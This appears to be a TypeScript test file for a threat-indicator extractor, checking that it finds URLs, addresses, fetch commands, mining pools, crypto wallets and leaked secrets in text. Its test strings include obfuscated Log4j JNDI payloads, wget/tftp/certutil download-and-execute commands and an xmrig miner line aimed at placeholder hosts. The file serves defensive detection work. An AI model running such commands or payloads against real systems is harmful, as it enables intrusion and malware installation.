// biome-ignore-all lint/suspicious/noTemplateCurlyInString: Log4j's look-ups and shells' variables
import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { test } from 'node:test'
import { indicatorsIn } from './indicators.ts'
import { keccak256 } from './keccak.ts'
import { secretsIn } from './secrets.ts'
import { walletsIn } from './wallets.ts'

const of = (text: string, kind: string) =>
  indicatorsIn([text])
    .filter(indicator => indicator.kind === kind)
    .map(({ value }) => value)

test('URLs, plain and hidden', () => {
  const table: [text: string, ...urls: string[]][] = [
    [
      'wget http://192.0.2.9/a.sh; curl -O https://h.example:8443/b?x=1',
      'http://192.0.2.9/a.sh',
      'https://h.example:8443/b?x=1',
    ],
    ['hxxp://evil[.]example/x and hxxps[:]//other(dot)example/y', 'http://evil.example/x', 'https://other.example/y'],
    ['${jndi:ldap://192.0.2.9:1389/Exploit}', 'ldap://192.0.2.9:1389/Exploit'],
    ['${${lower:j}${::-n}di:${lower:l}dap://h.example/a}', 'ldap://h.example/a'],
    ['${jndi:${env:X:-r}mi://h.example/a}', 'rmi://h.example/a'],
    ['curl ht""tp://192.0.2.9/a', 'http://192.0.2.9/a'],
    ['$u="ht" + "tp://192.0.2.9/a.ps1"', 'http://192.0.2.9/a.ps1'],
    ['wget${IFS}http://192.0.2.9/a', 'http://192.0.2.9/a'],
    ['tftp -g -r mips 192.0.2.9', 'tftp://192.0.2.9/mips'],
    ['busybox wget 192.0.2.9/arm7 -O -', 'http://192.0.2.9/arm7'],
    ['ftpget -v -u a -p a 192.0.2.9 x y', 'ftp://192.0.2.9/y'],
  ]
  for (const [text, ...urls] of table) assert.deepEqual(of(text, 'url'), urls, text)
})

test('addresses and names, and what only looks like them', () => {
  const text =
    'connect 192.0.2.9:4444 or [2001:db8::1]:443, mail bob@mail.example, c2.evil.example, ' +
    'expyuzz4wqqyqhjn.onion, Chrome/120.0.0.0 v1.2.3.4 127.0.0.1 0.0.0.0 999.1.1.1 12:30:45 run.sh lib.so a.b 1.2.3.4.5'
  assert.deepEqual(of(text, 'ipv4'), ['192.0.2.9:4444'])
  assert.deepEqual(of(text, 'ipv6'), ['[2001:db8::1]:443'])
  assert.deepEqual(of(text, 'email'), ['bob@mail.example'])
  assert.deepEqual(of(text, 'domain'), ['c2.evil.example'])
  assert.deepEqual(of(text, 'onion'), ['expyuzz4wqqyqhjn.onion'])
})

test('commands that fetch, as they stand there', () => {
  const line =
    'cd /tmp && (wget http://192.0.2.9/x -O y); chmod +x y | ./y; /bin/busybox tftp -g -r z 192.0.2.9; certutil.exe -urlcache -f http://192.0.2.9/a.exe a.exe & echo wget'
  assert.deepEqual(of(line, 'command'), [
    'wget http://192.0.2.9/x -O y',
    '/bin/busybox tftp -g -r z 192.0.2.9',
    'certutil.exe -urlcache -f http://192.0.2.9/a.exe a.exe',
  ])
})

test('pools of miners', () => {
  const text = './xmrig -o pool.example:3333 -u x; "url": "other.example:4444"; stratum+tcp://third.example:5555'
  assert.deepEqual(of(text, 'pool').toSorted(), [
    'other.example:4444',
    'pool.example:3333',
    'stratum+tcp://third.example:5555',
  ])
})

/** Base58 of bytes, and addresses that nobody has: made of what hashes give. */
const ALPHABET = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz'
function base58(bytes: Buffer, length = 0): string {
  let value = BigInt(`0x${bytes.toString('hex')}`)
  let out = ''
  for (; value > 0n; value /= 58n) out = ALPHABET[Number(value % 58n)] + out
  if (length > 0) return out.padStart(length, '1')
  for (const byte of bytes)
    if (byte === 0) out = `1${out}`
    else break
  return out
}
const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest()
const nobody = sha256(Buffer.from('nobody'))
const check58 = (version: number) => {
  const body = Buffer.concat([Buffer.of(version), nobody.subarray(0, 20)])
  return base58(Buffer.concat([body, sha256(sha256(body)).subarray(0, 4)]))
}
function moneroAddress(): string {
  const body = Buffer.concat([Buffer.of(18), nobody, sha256(nobody)])
  const all = Buffer.concat([body, keccak256(body).subarray(0, 4)])
  let out = ''
  for (let i = 0; i < all.length; i += 8) out += base58(all.subarray(i, i + 8), i + 8 <= all.length ? 11 : 7)
  return out
}

test('Keccak-256 is the coins’, not the standard’s', () => {
  // keccak.team, ShortMsgKAT_256: the empty message; and "abc".
  assert.equal(
    keccak256(Buffer.alloc(0)).toString('hex'),
    'c5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470',
  )
  assert.equal(
    keccak256(Buffer.from('abc')).toString('hex'),
    '4e03657aea45a94fc7d47ba826c8d667c0d1e6e33a64a036ec44f58fa12d6c45',
  )
  assert.equal(keccak256(Buffer.alloc(136)).length, 32)
})

test('wallets whose checksum is right, and no others', () => {
  // BIP 173, BIP 350 and EIP-55 have these as examples.
  const examples: [coin: string, address: string][] = [
    ['bitcoin', 'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4'],
    ['bitcoin', 'bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0'],
    ['ethereum', '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed'],
    ['ethereum', '0xfb6916095ca1df60bb79ce92ce3ea74c37c5d359'],
    ['bitcoin', check58(0)],
    ['bitcoin', check58(5)],
    ['litecoin', check58(0x30)],
    ['tron', check58(0x41)],
    ['monero', moneroAddress()],
  ]
  for (const [coin, address] of examples) {
    assert.deepEqual(walletsIn(`send to ${address}, now`), [{ coin, address }], address)
    const at = address.length - 5
    const wrong = address.slice(0, at) + (address[at] === 'a' ? 'c' : 'a') + address.slice(at + 1)
    if (address !== address.toLowerCase() || !address.startsWith('0x')) assert.deepEqual(walletsIn(wrong), [], wrong)
  }
  assert.match(moneroAddress(), /^4.{94}$/)
})

test('keys, tokens and webhooks', () => {
  const blob = Buffer.concat([
    Buffer.from('0000000b', 'hex'),
    Buffer.from('ssh-ed25519'),
    Buffer.from('00000020', 'hex'),
    nobody,
  ]).toString('base64')
  const fingerprint = sha256(Buffer.from(blob, 'base64')).toString('base64').replace(/=+$/, '')
  const x = (n: number) => 'aB3x'.repeat(20).slice(0, n)
  const table: [kind: string, text: string, value?: string][] = [
    ['ssh-key', `ssh-ed25519 ${blob} mdrfckr`, `ssh-ed25519 SHA256:${fingerprint} mdrfckr`],
    ['aws-key', `AKIA${'A1'.repeat(8)}`],
    ['github-token', `ghp_${x(36)}`],
    ['telegram-bot', `bot123456789:${x(35)}`],
    ['discord-webhook', `https://discord.com/api/webhooks/123456789012345678/${x(68)}`],
    ['slack-token', `xoxb-${x(20)}`],
    ['google-key', `AIza${x(35)}`],
    ['jwt', `eyJ${x(20)}.eyJ${x(20)}.${x(20)}`],
  ]
  for (const [kind, text, value] of table)
    assert.deepEqual(
      secretsIn(`a "${text}" b`).filter(found => found.kind === kind),
      [{ kind, value: value ?? text }],
    )
  assert.match(
    secretsIn(`-----BEGIN RSA PRIVATE KEY-----\n${x(64)}\n-----END RSA PRIVATE KEY-----`)[0]!.value,
    /^RSA PRIVATE KEY SHA256:/,
  )
})

test('each once, in order, bounded', () => {
  const many = Array.from(
    { length: 500 },
    (_, i) => `http://192.0.2.${i % 250}/${i} a${i}@mail.example b${i}.evil.example`,
  ).join(' ')
  const found = indicatorsIn([many, many])
  assert.ok(found.length <= 64)
  assert.equal(of(many, 'url').length, 16)
  assert.equal(new Set(found.map(({ kind, value }) => `${kind} ${value}`)).size, found.length)
  assert.ok(indicatorsIn([`http://192.0.2.9/${'a'.repeat(5000)}`])[0]!.value.length <= 512)
})

test('hostile text costs no more than it is long', () => {
  const pieces = [
    'a.',
    'a-',
    '1.',
    'a@',
    '${jndi:',
    'http://',
    'ssh-rsa AAAA',
    '4',
    '1',
    'bc1q',
    '0x',
    ':',
    'eyJa.',
    '-----BEGIN A-----',
    'wget ',
    '" + "',
    '[.]',
    'a1.com ',
    '$IFS',
    "''",
  ]
  for (const piece of pieces) indicatorsIn([piece.repeat(100_000)])
})
